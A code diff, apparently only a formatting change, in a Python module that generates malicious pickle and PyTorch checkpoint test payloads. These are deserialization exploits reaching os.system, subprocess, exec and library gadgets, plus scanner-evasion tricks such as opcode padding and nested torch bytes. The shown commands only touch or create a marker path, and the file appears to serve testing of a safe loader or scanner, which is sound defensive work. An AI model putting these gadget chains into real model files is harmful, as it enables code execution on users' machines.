@@ -77,11 +77,20 @@ def attribute(of: str | Raw, *names: str) -> Raw:
 def commands(mark: str) -> Iterator[tuple[str, bytes]]:
     """Ways to start a command."""
     sh, argv = f"touch {shlex.quote(mark)}", ["touch", mark]
-    for f in ("os:system", "posix:system", "subprocess:getoutput", "subprocess:getstatusoutput", "commands:getoutput"):
+    for f in (
+        "os:system",
+        "posix:system",
+        "subprocess:getoutput",
+        "subprocess:getstatusoutput",
+        "commands:getoutput",
+    ):
         yield f, P2 + call(f, sh) + STOP
     for f in ("subprocess:run", "subprocess:call", "subprocess:check_output", "pty:spawn"):
         yield f, P2 + call(f, argv) + STOP
-    yield "subprocess:Popen", P2 + call(Raw(name("subprocess:Popen")), argv)[:-1] + b"\x81.".replace(b"\x81", b"R")
+    yield (
+        "subprocess:Popen",
+        P2 + call(Raw(name("subprocess:Popen")), argv)[:-1] + b"\x81.".replace(b"\x81", b"R"),
+    )
     yield "subprocess:Popen by NEWOBJ_EX", P4 + call("subprocess:run", argv) + STOP
     yield "os:popen", P2 + call(attribute(call("os:popen", sh), "read")) + STOP
     yield "os:spawnlp", P2 + call("os:spawnlp", os.P_WAIT, "touch", "touch", mark) + STOP
@@ -91,10 +100,16 @@ def commands(mark: str) -> Iterator[tuple[str, bytes]]:
     yield "by INST", b"(" + push(sh) + b"ios\nsystem\n."
     yield "by OBJ", P2 + b"(" + name("os:system") + push(sh) + b"o."
     yield "by protocol 0", b"cos\nsystem\n(S'" + sh.encode() + b"'\ntR."
-    yield "by protocol 0 with escapes", b"cos\nsystem\n(S'" + "".join(f"\\x{ord(c):02x}" for c in sh).encode() + b"'\ntR."
+    yield (
+        "by protocol 0 with escapes",
+        b"cos\nsystem\n(S'" + "".join(f"\\x{ord(c):02x}" for c in sh).encode() + b"'\ntR.",
+    )
     yield "by STACK_GLOBAL", P4 + call(stacked("os:system"), sh) + STOP
     yield "names out of the memo", P4 + b"\x8c\x06system\x940\x8c\x02os\x940h\1h\0\x93" + tupled(sh) + b"R."
-    yield "a long number for a memo entry", P2 + b"Vmath\np1\n0Vos\np000000000000000000001\n0g1\nVsystem\n\x93" + b"(V" + sh.encode() + b"\ntR."
+    yield (
+        "a long number for a memo entry",
+        P2 + b"Vmath\np1\n0Vos\np000000000000000000001\n0g1\nVsystem\n\x93" + b"(V" + sh.encode() + b"\ntR.",
+    )
     yield "before damage", P2 + call("os:system", sh) + b"0\xff"
 
 
@@ -105,24 +120,48 @@ def code(mark: str) -> Iterator[tuple[str, bytes]]:
         yield f, P2 + call(f, expression) + STOP
     compiled = call("builtins:compile", expression, "x", "exec")
     yield "builtins:compile", P2 + call("builtins:exec", compiled) + STOP
-    yield "marshal and FunctionType", P2 + call(call("types:FunctionType", call("marshal:loads", _code(expression)), call("builtins:globals"))) + STOP
+    yield (
+        "marshal and FunctionType",
+        P2
+        + call(call("types:FunctionType", call("marshal:loads", _code(expression)), call("builtins:globals")))
+        + STOP,
+    )
     yield "runpy:_run_code", P2 + call("runpy:_run_code", compiled, {}) + STOP
     yield "timeit:timeit", P2 + call("timeit:timeit", expression, "pass", number_is_default(), 1) + STOP
     yield "timeit:main", P2 + call("timeit:main", ["-n1", "-r1", expression]) + STOP
     yield "cProfile:run", P2 + call("cProfile:run", statement) + STOP
     yield "profile:run", P2 + call("profile:run", statement) + STOP
     yield "trace:Trace", P2 + call(attribute(call("trace:Trace", 0, 0), "run"), statement) + STOP
-    yield "code:InteractiveInterpreter", P2 + call(attribute(call("code:InteractiveInterpreter"), "runcode"), compiled) + STOP
+    yield (
+        "code:InteractiveInterpreter",
+        P2 + call(attribute(call("code:InteractiveInterpreter"), "runcode"), compiled) + STOP,
+    )
     yield "bdb:Bdb", P2 + call(attribute(call("bdb:Bdb"), "run"), statement) + STOP
     yield "numpy runstring", P2 + call("numpy.testing._private.utils:runstring", statement, {}) + STOP
     yield "numpy f2py", P2 + call("numpy.f2py.crackfortran:myeval", expression, {}, {}) + STOP
-    yield "torch execWrapper", P2 + call("torch.jit.unsupported_tensor_ops:execWrapper", statement, {}, {}) + STOP
+    yield (
+        "torch execWrapper",
+        P2 + call("torch.jit.unsupported_tensor_ops:execWrapper", statement, {}, {}) + STOP,
+    )
     yield "torch.fx source", P2 + call("torch.fx.graph_module:_exec_with_source", statement, {}) + STOP
-    yield "typing:ForwardRef", P2 + call("typing:_eval_type", call("typing:ForwardRef", expression), {"x": 1}, {}) + STOP
-    yield "sympy", P2 + call("sympy.core.sympify:sympify", f"__import__('pathlib').Path({mark!r}).touch()") + STOP
+    yield (
+        "typing:ForwardRef",
+        P2 + call("typing:_eval_type", call("typing:ForwardRef", expression), {"x": 1}, {}) + STOP,
+    )
+    yield (
+        "sympy",
+        P2 + call("sympy.core.sympify:sympify", f"__import__('pathlib').Path({mark!r}).touch()") + STOP,
+    )
     yield "tornado", P2 + call("tornado.util:exec_in", statement, {}) + STOP
     yield "attrs", P2 + call("attr._make:_compile_and_eval", statement, {}) + STOP
-    yield "logging.config", P2 + call("logging.config:_resolve", "os.system") + b"0" + call(call("logging.config:_resolve", "os.mkdir"), mark) + STOP
+    yield (
+        "logging.config",
+        P2
+        + call("logging.config:_resolve", "os.system")
+        + b"0"
+        + call(call("logging.config:_resolve", "os.mkdir"), mark)
+        + STOP,
+    )
 
 
 def number_is_default() -> Raw:
@@ -136,38 +175,98 @@ def _code(source: str) -> bytes:
 def indirect(mark: str) -> Iterator[tuple[str, bytes]]:
     """Ways to reach a function without naming it."""
     sh = f"touch {shlex.quote(mark)}"
-    for f in ("random:_os.system", "logging:os.system", "torch.serialization:os.system", "tempfile:_os.system", "shutil:os.system", "glob:os.system"):
+    for f in (
+        "random:_os.system",
+        "logging:os.system",
+        "torch.serialization:os.system",
+        "tempfile:_os.system",
+        "shutil:os.system",
+        "glob:os.system",
+    ):
         yield f, P4 + call(stacked(f), sh) + STOP
-    yield "sys.modules", P4 + call(call("operator:attrgetter", "system"), call(stacked("sys:modules.get"), "os")) + b"0" + _mkdir(mark) + STOP
+    yield (
+        "sys.modules",
+        P4
+        + call(call("operator:attrgetter", "system"), call(stacked("sys:modules.get"), "os"))
+        + b"0"
+        + _mkdir(mark)
+        + STOP,
+    )
     yield "getattr of a module", P2 + call(attribute("torch:serialization", "os", "system"), sh) + STOP
     yield "getattr of a private module", P2 + call(attribute("random:_os", "system"), sh) + STOP
     yield "pydoc:locate", P2 + call(call("pydoc:locate", "os.system"), sh) + STOP
     yield "pkgutil:resolve_name", P2 + call(call("pkgutil:resolve_name", "os:system"), sh) + STOP
     yield (
         "importlib and attrgetter",
-        P2 + call(call("operator:attrgetter", "system"), call("importlib:import_module", "os")) + b"0" + _mkdir(mark) + STOP,
+        P2
+        + call(call("operator:attrgetter", "system"), call("importlib:import_module", "os"))
+        + b"0"
+        + _mkdir(mark)
+        + STOP,
     )
-    yield "methodcaller", P2 + call(call("operator:methodcaller", "system", sh), call("importlib:import_module", "os")) + STOP
+    yield (
+        "methodcaller",
+        P2 + call(call("operator:methodcaller", "system", sh), call("importlib:import_module", "os")) + STOP,
+    )
     yield "partial", P2 + call(call("functools:partial", name("os:system"), sh)) + STOP
     yield "map", P2 + call("builtins:list", call("builtins:map", name("os:system"), [sh])) + STOP
     yield "starmap", P2 + call("builtins:list", call("itertools:starmap", name("os:system"), [(sh,)])) + STOP
-    yield "reduce", P2 + call("functools:reduce", name("builtins:getattr"), listed(name("random:_os"), "system")) + b"0" + _mkdir(mark) + STOP
-    yield "a thread", P2 + call(attribute(call("threading:Thread", None, name("os:system"), None, (sh,)), "run")) + STOP
-    yield "atexit", P2 + call("atexit:register", name("os:system"), sh) + b"0" + call("atexit:_run_exitfuncs") + STOP
-    yield "an extension code", P2 + call("copyreg:add_extension", "os", "system", 240) + b"0" + call(Raw(b"\x82\xf0"), sh) + STOP
-    yield "copyreg:_reconstructor", P2 + call("copyreg:_reconstructor", name("logging:FileHandler"), name("logging:FileHandler"), mark) + STOP
-    yield "_rebuild_from_type_v2", P2 + call("torch._tensor:_rebuild_from_type_v2", name("os:mkdir"), name("builtins:int"), tupled(mark), None) + STOP
+    yield (
+        "reduce",
+        P2
+        + call("functools:reduce", name("builtins:getattr"), listed(name("random:_os"), "system"))
+        + b"0"
+        + _mkdir(mark)
+        + STOP,
+    )
+    yield (
+        "a thread",
+        P2 + call(attribute(call("threading:Thread", None, name("os:system"), None, (sh,)), "run")) + STOP,
+    )
+    yield (
+        "atexit",
+        P2 + call("atexit:register", name("os:system"), sh) + b"0" + call("atexit:_run_exitfuncs") + STOP,
+    )
+    yield (
+        "an extension code",
+        P2 + call("copyreg:add_extension", "os", "system", 240) + b"0" + call(Raw(b"\x82\xf0"), sh) + STOP,
+    )
+    yield (
+        "copyreg:_reconstructor",
+        P2
+        + call("copyreg:_reconstructor", name("logging:FileHandler"), name("logging:FileHandler"), mark)
+        + STOP,
+    )
+    yield (
+        "_rebuild_from_type_v2",
+        P2
+        + call(
+            "torch._tensor:_rebuild_from_type_v2", name("os:mkdir"), name("builtins:int"), tupled(mark), None
+        )
+        + STOP,
+    )
     made = tupled(f"__import__('os').mkdir({mark!r})")
     yield (
         "_rebuild_from_type_v2, no list",
-        P2 + call("torch._tensor:_rebuild_from_type_v2", name("sympy:sympify"), name("builtins:int"), made, None) + STOP,
+        P2
+        + call("torch._tensor:_rebuild_from_type_v2", name("sympy:sympify"), name("builtins:int"), made, None)
+        + STOP,
     )
     yield (
         "a generator's constructor",
-        P2 + call("numpy.random._pickle:__generator_ctor", f"__import__('os').mkdir({mark!r})", name("sympy:sympify")) + STOP,
+        P2
+        + call(
+            "numpy.random._pickle:__generator_ctor",
+            f"__import__('os').mkdir({mark!r})",
+            name("sympy:sympify"),
+        )
+        + STOP,
     )
     yield "a path's method", P2 + call(attribute(call("pathlib:PosixPath", mark), "touch")) + STOP
-    yield "a path's method by its class", P4 + call(stacked("pathlib:Path.touch"), call("pathlib:PosixPath", mark)) + STOP
+    yield (
+        "a path's method by its class",
+        P4 + call(stacked("pathlib:Path.touch"), call("pathlib:PosixPath", mark)) + STOP,
+    )
 
 
 def _mkdir(mark: str) -> bytes:
@@ -213,21 +312,36 @@ def nested(mark: str) -> Iterator[tuple[str, bytes]]:
     yield "torch bytes in torch bytes", hidden(legacy(hidden(legacy(hidden(legacy(hidden(legacy(bad))))))))
     yield (
         "torch bytes made by a call",
-        P2 + call("torch.storage:_load_from_bytes", call("_codecs:encode", legacy(bad).decode("latin-1"), "iso8859-1")) + STOP,
+        P2
+        + call(
+            "torch.storage:_load_from_bytes",
+            call("_codecs:encode", legacy(bad).decode("latin-1"), "iso8859-1"),
+        )
+        + STOP,
     )
     data = legacy(bad)
     yield (
         "torch bytes as a bytearray",
-        P2 + call("torch.storage:_load_from_bytes", call("builtins:bytearray", Raw(b"B" + struct.pack("<I", len(data)) + data))) + STOP,
+        P2
+        + call(
+            "torch.storage:_load_from_bytes",
+            call("builtins:bytearray", Raw(b"B" + struct.pack("<I", len(data)) + data)),
+        )
+        + STOP,
     )
     yield "behind empty opcodes", P2 + b"N0" * 2_600_000 + bad[2:]
     yield "behind a storm of memo entries", P2 + b"Nr\0\0\0\0" * 1 + b"q\0" * 5_100_000 + b"0" + bad[2:]
-    yield "behind long strings", P2 + (b"X" + struct.pack("<I", 1 << 20) + b"x" * (1 << 20) + b"0") * 4 + bad[2:]
+    yield (
+        "behind long strings",
+        P2 + (b"X" + struct.pack("<I", 1 << 20) + b"x" * (1 << 20) + b"0") * 4 + bad[2:],
+    )
 
 
 def hidden(inner: bytes) -> bytes:
     """A pickle that hands bytes to torch.load."""
-    return P2 + call("torch.storage:_load_from_bytes", Raw(b"B" + struct.pack("<I", len(inner)) + inner)) + STOP
+    return (
+        P2 + call("torch.storage:_load_from_bytes", Raw(b"B" + struct.pack("<I", len(inner)) + inner)) + STOP
+    )
 
 
 def parts() -> list[bytes]:
@@ -299,9 +413,14 @@ def torch_files(mark: str) -> Iterator[tuple[str, bytes]]:
         yield f"tar, {member}", tar(**{member: bad})
     yield "tar that looks like a pickle", two_faced(tar(storages=bad))
     made = tupled(f"__import__('os').mkdir({mark!r})")
-    renamed = call("torch.tensor:_rebuild_from_type_v2", name("sympy:sympify"), name("builtins:int"), made, None)
+    renamed = call(
+        "torch.tensor:_rebuild_from_type_v2", name("sympy:sympify"), name("builtins:int"), made, None
+    )
     yield "archive, a name that torch renames", archive(P2 + renamed + STOP)
-    yield "archive, a name with Storage in it", archive(P2 + call("os:mkdir", mark) + b"0" + name("torch:FloatStorage") + STOP)
+    yield (
+        "archive, a name with Storage in it",
+        archive(P2 + call("os:mkdir", mark) + b"0" + name("torch:FloatStorage") + STOP),
+    )
     yield "archive behind empty opcodes", archive(P2 + b"N0" * 2_600_000 + bad[2:])
 
 
@@ -354,7 +473,10 @@ def dcp(directory: Path, make: Callable[[Path], bytes], metadata: bool = True) -
 def build(directory: Path) -> list[Payload]:
     """Every payload, as files below ``directory``, which must be of this run alone."""
     out = list[Payload]()
-    for loads, suffix, makers in (("pickle", ".pkl", (commands, code, indirect, files, nested)), ("torch", ".pt", (torch_files,))):
+    for loads, suffix, makers in (
+        ("pickle", ".pkl", (commands, code, indirect, files, nested)),
+        ("torch", ".pt", (torch_files,)),
+    ):
         for make in makers:
             for n, what in enumerate(title for title, _ in make("x")):
                 home = directory / f"{make.__name__}-{n:02d}"
@@ -376,7 +498,11 @@ def _dcp_payloads(directory: Path) -> Iterator[Payload]:
 
     cases: tuple[tuple[str, bool, Callable[[Path, Path], bytes]], ...] = (
         (".metadata", True, lambda mark, path: index_with(path, Does(os.mkdir, str(mark)))),
-        (".metadata, no list", True, lambda mark, path: index_with(path, Does(sympify, f"__import__('os').mkdir({str(mark)!r})"))),
+        (
+            ".metadata, no list",
+            True,
+            lambda mark, path: index_with(path, Does(sympify, f"__import__('os').mkdir({str(mark)!r})")),
+        ),
         ("an object, archive", False, lambda mark, _: archive(bad(mark))),
         ("an object, old format", False, lambda mark, _: legacy(bad(mark))),
         ("an object, plain pickle", False, bad),
